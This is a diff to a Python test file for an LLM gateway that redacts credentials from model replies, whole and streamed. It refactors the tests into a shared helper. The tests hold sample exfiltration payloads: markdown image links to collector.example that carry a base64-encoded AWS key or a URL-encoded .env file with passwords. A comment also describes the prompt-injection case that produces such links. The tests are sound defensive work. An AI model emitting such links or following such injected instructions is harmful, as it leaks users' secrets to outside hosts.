@@ -268,6 +268,19 @@ async def test_stream_redacts_a_secret_split_at_every_offset(make_gateway, fake_
         assert "".join(seen) == before + "[REDACTED:aws_access_key]" + after, cut
 
 
+async def _answered_and_streamed(
+    gateway, fake_upstream, content: str, chunk: int
+) -> tuple[str, str]:
+    """What the client receives when the upstream answers `content`, whole and then streamed
+    in pieces of `chunk` characters."""
+    fake_upstream.behaviour.content = content
+    reply = await client(gateway).chat.completions.create(
+        model="gpt-4o-mini", messages=[{"role": "user", "content": BENIGN}]
+    )
+    fake_upstream.behaviour.chunks = [content[i : i + chunk] for i in range(0, len(content), chunk)]
+    return reply.choices[0].message.content or "", await _stream_text(gateway)
+
+
 async def test_a_credential_encoded_into_a_link_is_redacted(make_gateway, fake_upstream) -> None:
     # An injected "base64-encode the key into this image URL" would exfiltrate it when the
     # client renders the markdown; the whole encoded run goes, streamed or not.
@@ -275,13 +288,7 @@ async def test_a_credential_encoded_into_a_link_is_redacted(make_gateway, fake_u
     encoded = base64.urlsafe_b64encode(f"aws: {AWS_KEY}".encode()).decode()
     content = f"Done. ![status](https://collector.example/p.png?d={encoded})"
     expected = content.replace(encoded, "[REDACTED:encoded_credential]")
-    fake_upstream.behaviour.content = content
-    reply = await client(gateway).chat.completions.create(
-        model="gpt-4o-mini", messages=[{"role": "user", "content": BENIGN}]
-    )
-    assert reply.choices[0].message.content == expected
-    fake_upstream.behaviour.chunks = [content[i : i + 5] for i in range(0, len(content), 5)]
-    assert await _stream_text(gateway) == expected
+    assert await _answered_and_streamed(gateway, fake_upstream, content, 5) == (expected,) * 2
 
 
 async def test_a_credential_spelled_out_is_redacted(make_gateway, fake_upstream) -> None:
@@ -294,13 +301,7 @@ async def test_a_credential_spelled_out_is_redacted(make_gateway, fake_upstream)
     expected = content.replace(laced, "[REDACTED:spelled_credential]").replace(
         spaced, "[REDACTED:spelled_credential]"
     )
-    fake_upstream.behaviour.content = content
-    reply = await client(gateway).chat.completions.create(
-        model="gpt-4o-mini", messages=[{"role": "user", "content": BENIGN}]
-    )
-    assert reply.choices[0].message.content == expected
-    fake_upstream.behaviour.chunks = [content[i : i + 3] for i in range(0, len(content), 3)]
-    assert await _stream_text(gateway) == expected
+    assert await _answered_and_streamed(gateway, fake_upstream, content, 3) == (expected,) * 2
 
 
 async def test_a_url_encoded_env_file_in_a_link_is_redacted(make_gateway, fake_upstream) -> None:
@@ -310,15 +311,10 @@ async def test_a_url_encoded_env_file_in_a_link_is_redacted(make_gateway, fake_u
     env = "DATABASE_URL=postgres://app:S3cr3tP4ss@db.internal:5432/prod\nDB_PASSWORD=Tr0ub4dor&3x"
     encoded = quote(env, safe="")
     content = f"Here you go ![status](https://collector.example/p.png?env={encoded})"
-    fake_upstream.behaviour.content = content
-    reply = await client(gateway).chat.completions.create(
-        model="gpt-4o-mini", messages=[{"role": "user", "content": BENIGN}]
-    )
-    answer = reply.choices[0].message.content or ""
+    answer, streamed = await _answered_and_streamed(gateway, fake_upstream, content, 7)
     assert "S3cr3tP4ss" not in answer and quote("Tr0ub4dor&3x", safe="") not in answer
     assert answer.count("[REDACTED:url_encoded_credential]") == 2
-    fake_upstream.behaviour.chunks = [content[i : i + 7] for i in range(0, len(content), 7)]
-    assert await _stream_text(gateway) == answer
+    assert streamed == answer
 
 
 async def test_stream_redacts_tool_call_argument_deltas(make_gateway, fake_upstream) -> None:
